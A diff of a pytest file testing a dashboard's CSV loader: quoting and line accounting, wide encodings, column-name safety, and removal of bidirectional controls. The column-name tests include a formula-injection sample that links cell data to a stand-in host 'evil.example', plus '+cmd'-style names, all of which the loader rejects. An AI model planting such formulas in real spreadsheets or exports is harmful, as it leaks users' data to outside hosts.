@@ -2,10 +2,13 @@
 
 from __future__ import annotations
 
+import codecs
+
 import pytest
 
-from dashboard.data import Problem, decode, load_events, read_rows
-from dashboard.schema import EVENT_COLUMNS
+import dashboard.data
+from dashboard.data import Problem, column_name_problem, decode, load_events, read_rows
+from dashboard.schema import EVENT_COLUMNS, MAX_COLUMNS
 from tests.conftest import load_rows, row, table_bytes
 
 # (cells to change, column named, words the reason must contain)
@@ -143,8 +146,9 @@ def test_latin1_is_read_with_a_warning():
 
 
 def test_read_rows_skips_blank_lines():
-    header, lines, records, problems = read_rows("a,b\n1,2\n\n3,4\n", "x.csv")
-    assert header == ["a", "b"] and lines == [2, 4] and records == [["1", "2"], ["3", "4"]] and not problems
+    rows = read_rows("a,b\n1,2\n\n3,4\n", "x.csv")
+    assert rows.header == ["a", "b"] and rows.lines == [2, 4] and rows.records == [["1", "2"], ["3", "4"]]
+    assert not rows.problems and rows.rows_read == 2
 
 
 def test_neutralised_cells_are_restored(tiny_ref):
@@ -176,3 +180,255 @@ def test_country_may_be_empty_only_for_organisation_rows_without_place(tiny_ref,
 def test_dates_must_use_ascii_digits(tiny_ref, date):
     result = load_rows([row(date_start=date, date_end="")], tiny_ref)
     assert [p.column for p in result.problems] == ["date_start"]
+
+
+# ----- reading: every line accounted for ----------------------------------------------------------
+# (text, first line of each record, records, problems, rows read)
+READS = [
+    pytest.param(
+        'a,b,c\n1,"x\ny",3\n4,5,6\n',
+        [2, 4],
+        [["1", "x\ny", "3"], ["4", "5", "6"]],
+        [],
+        2,
+        id="multi-line-field",
+    ),
+    pytest.param('a,b,c\r\n1,"x\r\ny",3\r\n', [2], [["1", "x\r\ny", "3"]], [], 1, id="quoted-crlf"),
+    pytest.param('a,b,c\n1,5" screen,3\n', [2], [["1", '5" screen', "3"]], [], 1, id="quote-inside-a-field"),
+    pytest.param(
+        'a,b,c\n1,"two\nlines"\n4,5,6\n',
+        [2, 4],
+        [["1", "two\nlines"], ["4", "5", "6"]],  # kept: the validator names the missing field
+        [],
+        2,
+        id="multi-line-record-short-of-a-field",
+    ),
+    pytest.param(
+        'a,b,c\n1,"x,3\n4,5,6\n7,"q",9\n10,11,12\n',
+        [3, 4, 5],
+        [["4", "5", "6"], ["7", "q", "9"], ["10", "11", "12"]],
+        [
+            "x.csv:2: -: unclosed quote; lines 2-4 read as one field: "
+            "line 2 skipped, lines 3-4 read again as rows"
+        ],
+        4,
+        id="unclosed-quote-closed-by-a-later-one",
+    ),
+    pytest.param(
+        'a,b,c\n1,"x,3\n4,5,6\n',
+        [3],
+        [["4", "5", "6"]],
+        [
+            "x.csv:2: -: unclosed quote; lines 2-3 read as one field, to the end of the file: "
+            "line 2 skipped, line 3 read again as rows"
+        ],
+        2,
+        id="unclosed-quote-to-the-end",
+    ),
+    pytest.param(
+        'a,b,c\n1,2,3\n4,"5,6\n',
+        [2],
+        [["1", "2", "3"]],
+        ["x.csv:3: -: unclosed quote; the field runs to the end of the file: line 3 skipped"],
+        2,
+        id="unclosed-quote-in-the-last-row",
+    ),
+    pytest.param(
+        'a,b,c\n1,2,3\n4,"5,6',
+        [2],
+        [["1", "2", "3"]],
+        ["x.csv:3: -: unclosed quote; the field runs to the end of the file: line 3 skipped"],
+        2,
+        id="unclosed-quote-no-final-newline",
+    ),
+    pytest.param(
+        "a,b,c\n1," + "x" * 100_001 + ",3\n4,5,6\n",
+        [3],
+        [["4", "5", "6"]],
+        ["x.csv:2: -: a field is longer than 100,000 characters: row skipped"],
+        2,
+        id="oversized-field",
+    ),
+]
+
+
+@pytest.mark.parametrize(("text", "lines", "records", "problems", "rows_read"), READS)
+def test_read_rows_accounts_for_every_line(text, lines, records, problems, rows_read):
+    rows = read_rows(text, "x.csv")
+    assert rows.header == ["a", "b", "c"]
+    assert (rows.lines, rows.records, [str(p) for p in rows.problems]) == (lines, records, problems)
+    assert rows.rows_read == rows_read == len(records) + rows.unreadable
+
+
+def test_an_unclosed_quote_in_the_header_loads_nothing_but_counts_the_rows():
+    rows = read_rows('a,"b,c\n1,2,3\n4,5,6\n', "x.csv")
+    assert rows.header == [] and rows.rows_read == 2
+    assert [str(p) for p in rows.problems] == [
+        "x.csv:1: -: unclosed quote in the header (lines 1-3 read as one field): no row can be loaded"
+    ]
+
+
+def test_blank_lines_before_the_header_are_skipped():
+    rows = read_rows("\n\na,b,c\n1,2,3\n", "x.csv")
+    assert (rows.header, rows.header_line, rows.lines, rows.problems) == (["a", "b", "c"], 3, [4], [])
+
+
+def _plain(rows: list[dict[str, str]]) -> list[str]:
+    """Rows as unquoted CSV lines (their cells hold no commas), to break by hand."""
+    return [",".join(EVENT_COLUMNS)] + [",".join(r[c] for c in EVENT_COLUMNS) for r in rows]
+
+
+def test_a_stray_quote_costs_only_its_own_row(tiny_ref):
+    lines = _plain([row(event_id=f"e{i}") for i in range(1, 11)])
+    lines[3] = lines[3].replace("Summit in Singapore", '"Summit in Singapore')  # the row on line 4
+    result = load_events("\n".join(lines).encode() + b"\n", tiny_ref, frozenset({1}), name="q.csv")
+    assert [str(p) for p in result.problems] == [
+        "q.csv:4: -: unclosed quote; lines 4-11 read as one field, to the end of the file: "
+        "line 4 skipped, lines 5-11 read again as rows"
+    ]
+    assert list(result.frame["event_id"]) == [f"e{i}" for i in (1, 2, 4, 5, 6, 7, 8, 9, 10)]
+    assert result.summary("q.csv") == "q.csv: 9 of 10 rows loaded, 1 skipped, 1 problem"
+
+
+def test_an_oversized_field_is_counted_as_skipped(tiny_ref):
+    raw = table_bytes([row(event_id="a"), row(event_id="b", summary="x" * 100_001), row(event_id="c")])
+    result = load_events(raw, tiny_ref, frozenset({1}), name="o.csv")
+    assert [str(p) for p in result.problems] == [
+        "o.csv:3: -: a field is longer than 100,000 characters: row skipped"
+    ]
+    assert (result.rows_read, result.rows_loaded, result.rows_skipped) == (3, 2, 1)
+
+
+# ----- encodings -----------------------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("encoding", "bom", "told"),
+    [
+        ("utf-16-le", codecs.BOM_UTF16_LE, "UTF-16 (little-endian, with a byte order mark): read as UTF-16"),
+        ("utf-16-be", codecs.BOM_UTF16_BE, "UTF-16 (big-endian, with a byte order mark): read as UTF-16"),
+        ("utf-16-le", b"", "UTF-16 (little-endian, no byte order mark): read as UTF-16"),
+        ("utf-16-be", b"", "UTF-16 (big-endian, no byte order mark): read as UTF-16"),
+        ("utf-32-le", codecs.BOM_UTF32_LE, "UTF-32 (little-endian, with a byte order mark): read as UTF-32"),
+    ],
+)
+def test_wide_encodings_are_read_and_named(encoding, bom, told):
+    text = "event_id,title\nx,Société “Ünïcödé” Москва\n"
+    decoded, problems = decode(bom + text.encode(encoding), "w.csv")
+    assert decoded == text
+    assert [str(p) for p in problems] == [f"w.csv:1: -: this file is {told}; save it as UTF-8"]
+    assert problems[0].severity == "warning"
+
+
+def test_broken_utf16_says_where():
+    decoded, problems = decode(codecs.BOM_UTF16_LE + "a,b\n".encode("utf-16-le") + b"\x00", "b.csv")
+    assert decoded == "a,b\n\ufffd"
+    assert problems[0].reason.endswith(
+        "save it as UTF-8; bytes at offset 10 are not valid UTF-16 (read as U+FFFD)"
+    )
+
+
+def test_utf16_table_loads(tiny_ref):
+    raw = codecs.BOM_UTF16_LE + table_bytes([row(title="Société")]).decode().encode("utf-16-le")
+    result = load_events(raw, tiny_ref, frozenset({1}), name="u.csv")
+    assert result.rows_loaded == 1 and result.frame.loc[0, "title"] == "Société"
+    assert [p.severity for p in result.problems] == ["warning"]
+
+
+# ----- column names and width -----------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("name", "why"),
+    [
+        ("analyst_note", ""),
+        ("Notes (2019) – Ünïcödé", ""),
+        ("a=b", ""),
+        ("", "column has no name"),
+        ("n" * 101, "name is 101 characters; at most 100"),
+        (
+            '=HYPERLINK("http://evil.example/?"&A2,"Click")',
+            "name starts with '=', which a spreadsheet reads as a formula",
+        ),
+        ("+cmd", "name starts with '+', which a spreadsheet reads as a formula"),
+        ("-x", "name starts with '-', which a spreadsheet reads as a formula"),
+        ("@SUM(A1)", "name starts with '@', which a spreadsheet reads as a formula"),
+        ("a\tb\x1b", "name holds control characters (U+0009, U+001B)"),
+        ("a\u202eb", "name holds control characters (U+202E)"),
+        ("partners", "the dashboard derives a column of this name, which would overwrite yours"),
+        ("year_start", "the dashboard derives a column of this name, which would overwrite yours"),
+    ],
+)
+def test_column_name_rules(name, why):
+    assert column_name_problem(name) == why
+
+
+def test_unsafe_columns_are_not_loaded_and_rows_are_kept(tiny_ref):
+    columns = [*EVENT_COLUMNS, "=cmd", "partners", "note"]
+    raw = table_bytes([row(**{"=cmd": "x", "partners": "FRA", "note": "kept"})], columns)
+    result = load_events(raw, tiny_ref, frozenset({1}), name="c.csv")
+    assert [str(p) for p in result.problems] == [
+        "c.csv:1: '=cmd': name starts with '=', which a spreadsheet reads as a formula; column not loaded",
+        "c.csv:1: partners: the dashboard derives a column of this name, which would overwrite yours; "
+        "column not loaded",
+    ]
+    assert result.rows_loaded == 1 and result.extra_columns == ("note",)
+    assert list(result.frame.columns) == [*EVENT_COLUMNS, "note"] and result.frame.loc[0, "note"] == "kept"
+
+
+def test_a_neutralised_column_name_is_read_like_a_neutralised_cell(tiny_ref):
+    """`'=x` is the exporter's mark on `=x`: undone, then refused like `=x` itself."""
+    raw = table_bytes([row(**{"'=x": "1"})], [*EVENT_COLUMNS, "'=x"])
+    result = load_events(raw, tiny_ref, frozenset({1}), name="c.csv")
+    assert [p.column for p in result.problems] == ["'=x'"]
+    assert result.extra_columns == ()
+
+
+def test_column_names_that_only_look_alike_are_not_duplicates(tiny_ref):
+    raw = table_bytes([row()], [*EVENT_COLUMNS, "note", "Note"])
+    assert load_events(raw, tiny_ref, frozenset({1})).ok
+
+
+@pytest.mark.parametrize(("width", "ok"), [(MAX_COLUMNS, True), (MAX_COLUMNS + 1, False)])
+def test_the_column_cap(tiny_ref, width, ok):
+    columns = [*EVENT_COLUMNS, *(f"x{i}" for i in range(width - len(EVENT_COLUMNS)))]
+    result = load_events(table_bytes([row()], columns), tiny_ref, frozenset({1}), name="w.csv")
+    assert result.ok is ok
+    if not ok:
+        assert [str(p) for p in result.problems] == [
+            "w.csv:1: -: 101 columns; at most 100: no row can be loaded"
+        ]
+        assert (result.rows_read, result.rows_loaded) == (1, 0)
+
+
+def test_a_wide_table_is_refused_before_any_frame_is_built(tiny_ref, monkeypatch):
+    def no_frame(*args, **kwargs):
+        raise AssertionError("a frame was built for a table that is refused")
+
+    monkeypatch.setattr(dashboard.data, "_Table", no_frame)
+    columns = [*EVENT_COLUMNS, *(f"x{i}" for i in range(9_980))]
+    result = load_events(table_bytes([row()], columns), tiny_ref, frozenset({1}), name="w.csv")
+    assert [str(p) for p in result.problems] == [
+        "w.csv:1: -: 10,000 columns; at most 100: no row can be loaded"
+    ]
+
+
+# ----- bidirectional controls ------------------------------------------------------------------------
+def test_bidi_controls_are_removed_with_a_warning(tiny_ref):
+    result = load_rows([row(event_id="a"), row(event_id="b", title="Summit \u202eeropagniS\u202c")], tiny_ref)
+    assert [str(p) for p in result.problems] == [
+        "t.csv:3: title: bidirectional controls removed (U+202E, U+202C): they can make text display in "
+        "another order"
+    ]
+    assert result.problems[0].severity == "warning"
+    assert result.rows_loaded == 2 and result.frame.loc[1, "title"] == "Summit eropagniS"
+
+
+@pytest.mark.parametrize("char", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))])
+def test_every_bidi_control_is_removed(tiny_ref, char):
+    result = load_rows([row(summary=f"a{char}b", place=f"{char}Singapore")], tiny_ref)
+    assert result.rows_loaded == 1
+    assert (result.frame.loc[0, "summary"], result.frame.loc[0, "place"]) == ("ab", "Singapore")
+    assert [p.column for p in result.problems] == ["place", "summary"]
+
+
+def test_other_format_characters_are_kept(tiny_ref):
+    """Only the controls that reorder text go: a zero-width joiner or a soft hyphen is data."""
+    result = load_rows([row(summary="a\u200db\u00adc\u200fd")], tiny_ref)
+    assert result.ok and result.frame.loc[0, "summary"] == "a\u200db\u00adc\u200fd"
